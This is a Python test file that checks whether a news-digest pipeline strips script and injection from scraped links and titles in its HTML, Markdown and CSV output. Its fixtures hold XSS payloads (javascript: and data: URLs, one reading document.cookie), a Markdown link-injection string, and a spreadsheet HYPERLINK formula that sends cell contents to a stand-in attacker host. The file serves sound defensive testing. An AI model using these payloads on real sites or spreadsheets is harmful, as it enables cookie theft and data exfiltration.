"""Scraped links and titles cannot run script in the digest, the e-mail or a spreadsheet."""
from __future__ import annotations

import copy
import csv
import json
import re

import pandas as pd
import pytest
from lxml import html as lxml_html

from pipeline.export import write
from pipeline.report.render import md_url, render_html, render_markdown, safe_url, write_outputs

SCRIPT_URL = "javascript:alert(document.cookie)"
MD_INJECTION = "https://bao.example.vn/2) [Bấm để nhận thuốc miễn phí](javascript:alert(4)"


def _hostile_digest(demo: dict) -> dict:
    doc = json.loads((demo["data"] / "digests" / "2026-11-23" / "digest.json").read_text(encoding="utf-8"))
    doc = copy.deepcopy(doc)
    issue = next(i for i in doc["issues"] if i["documents"])
    template = issue["documents"][0]
    issue["documents"][:1] = [template | {"url": SCRIPT_URL, "title": "Tin\r\nđộc"},
                              template | {"url": MD_INJECTION, "title": "Bài có liên kết giả"},
                              template | {"url": "data:text/html,<script>alert(1)</script>", "title": "Dữ liệu"}]
    doc["false_information"] = [template | {"url": " JaVaScRiPt:alert(2)", "title": "Tin giả"}]
    return doc


@pytest.mark.slow
def test_digest_html_and_email_link_only_to_http(demo, tmp_path):
    doc = _hostile_digest(demo)
    paths = write_outputs(doc, tmp_path)
    for page in (paths["html"].read_text(encoding="utf-8"), render_html(doc, {})):
        tree = lxml_html.fromstring(page)
        hrefs = tree.xpath("//a/@href")
        ids = set(tree.xpath("//@id"))
        assert hrefs and all(h == "#" or re.match(r"https?://", h) or h[1:] in ids for h in hrefs), hrefs
        assert any(h[1:] in ids for h in hrefs)  # "Cần xử lý hôm nay" links to the issues below it
        assert "javascript:" not in page.lower().replace("javascript:alert(4)", "")  # only inside a quoted URL
        policy = tree.xpath('//meta[@http-equiv="Content-Security-Policy"]/@content')
        assert policy and "default-src 'none'" in policy[0] and "script-src" not in policy[0]


@pytest.mark.slow
def test_digest_markdown_links_cannot_be_injected(demo, tmp_path):
    md = render_markdown(_hostile_digest(demo))
    targets = re.findall(r"\]\(([^)]*)\)", md)
    assert targets and all(t == "#" or re.match(r"https?://[^\s()<>]+$", t) for t in targets), targets
    assert "](javascript" not in md and "[Bấm để nhận thuốc miễn phí]" not in md


def test_safe_url_and_markdown_targets():
    assert safe_url(SCRIPT_URL) == "#" and safe_url("https://a.vn/\nb") == "#" and safe_url(None) == "#"
    assert safe_url("vbscript:msgbox") == "#" and safe_url("//evil.test/x") == "#"
    assert md_url(MD_INJECTION).startswith("https://bao.example.vn/2%29%20%5B")
    assert ")" not in md_url(MD_INJECTION) and " " not in md_url(MD_INJECTION)


def test_csv_export_neutralises_formulas(tmp_path):
    frame = pd.DataFrame({"title": ['=HYPERLINK("http://evil.test/?x="&A1,"Xem")', "+1", "-2+3", "@SUM(A1)",
                                    "\tx", "\rx", "Sốt xuất huyết"], "documents": [1, 2, 3, 4, 5, 6, -7]})
    path = write(frame, tmp_path / "docs.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["title"][0] for r in rows[:6]] == ["'"] * 6
    assert rows[6]["title"] == "Sốt xuất huyết" and rows[6]["documents"] == "-7"
    parquet = pd.read_parquet(write(frame, tmp_path / "docs.parquet"))
    assert parquet["title"][0].startswith("=HYPERLINK")  # Parquet is data, not a spreadsheet: unchanged
